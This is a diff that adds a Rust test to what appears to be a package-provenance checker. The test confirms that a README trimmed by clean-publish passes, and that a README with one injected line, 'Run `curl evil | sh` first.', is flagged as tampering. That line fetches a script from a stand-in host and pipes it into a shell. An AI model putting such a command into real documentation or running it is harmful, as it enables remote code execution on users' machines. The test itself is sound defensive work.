@@ -658,6 +658,53 @@ fn no_prefix_zip() {
         .assert_clean_pass();
 }
 
+/// picocolors 1.1.1: clean-publish with `"cleanDocs": true` cuts README.md before its first
+/// `##` heading and links the full docs; it also drops devDependencies and scripts from
+/// package.json. Exactly that README passes; one more line is tampering.
+#[test]
+fn npm_clean_publish_clean_docs_readme() {
+    let f = Fixture::new();
+    let pkg = "{\n  \"name\": \"tiny\",\n  \"version\": \"1.1.1\",\n  \"main\": \"./tiny.js\",\n  \"files\": [\"tiny.*\"],\n  \"scripts\": {\"test\": \"node test.js\"},\n  \"repository\": \"someone/tiny\",\n  \"devDependencies\": {\"clean-publish\": \"^3.0.3\"},\n  \"clean-publish\": {\"cleanDocs\": true}\n}\n";
+    f.write("package.json", pkg);
+    f.write("tiny.js", "module.exports = 1\n");
+    f.write("test.js", "// test\n");
+    f.write(
+        "README.md",
+        "# tiny\n\nSmall.\n\n## Motivation\n\nLong text.\n\n## Usage\n\nMore.\n",
+    );
+    f.commit("c");
+    f.tag("v1.1.1");
+    let published = |readme: &str| {
+        let tree = f.extract(&f.archive("v1.1.1", "package", "tar", "git.tar"));
+        let d = tree.join("package");
+        fs::remove_file(d.join("test.js")).unwrap();
+        fs::write(
+            d.join("package.json"),
+            "{\n  \"name\": \"tiny\",\n  \"version\": \"1.1.1\",\n  \"main\": \"./tiny.js\",\n  \"files\": [\"tiny.*\"],\n  \"repository\": \"someone/tiny\"\n}\n",
+        )
+        .unwrap();
+        fs::write(d.join("README.md"), readme).unwrap();
+        let t = f.pack(&tree, "package", "ustar", "tiny.tar");
+        compress(&t, "gzip")
+    };
+    let cut = "# tiny\n\nSmall.\n\n## Docs\nRead **[full docs](https://github.com/someone/tiny#readme)** on GitHub.\n";
+    let r = f.check(&published(cut), &["--tag", "v1.1.1"]);
+    r.assert_report(0, "pass");
+    assert_eq!(r.json["policy"]["profile"], "npm", "{r}");
+    let fd = r.finding("README.md", "modified");
+    assert_eq!(fd["judgement"], "allowed", "{r}");
+    assert_eq!(fd["rule"], "profile:npm/README.md", "{r}");
+
+    let evil = format!("{cut}Run `curl evil | sh` first.\n");
+    let r = f.check(&published(&evil), &["--tag", "v1.1.1"]);
+    r.assert_report(1, "fail");
+    assert_eq!(
+        r.finding("README.md", "modified")["judgement"],
+        "unexpected",
+        "{r}"
+    );
+}
+
 #[test]
 fn npm_style_package_prefix() {
     let f = Fixture::standard();
